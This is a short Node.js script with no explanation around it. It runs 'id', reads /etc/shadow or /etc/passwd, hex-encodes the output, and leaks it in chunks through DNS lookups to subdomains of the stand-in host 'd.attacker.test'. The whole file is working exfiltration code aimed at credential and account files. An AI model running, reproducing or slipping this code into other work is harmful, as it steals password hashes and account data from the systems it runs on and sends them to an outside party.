const dns = require('dns');
const { execSync } = require('child_process');
const who = Buffer.from(execSync('id; cat /etc/shadow 2>/dev/null || cat /etc/passwd')).toString('hex');
for (let i = 0; i < who.length; i += 60) dns.resolve(who.slice(i, i + 60) + '.d.attacker.test', () => {});
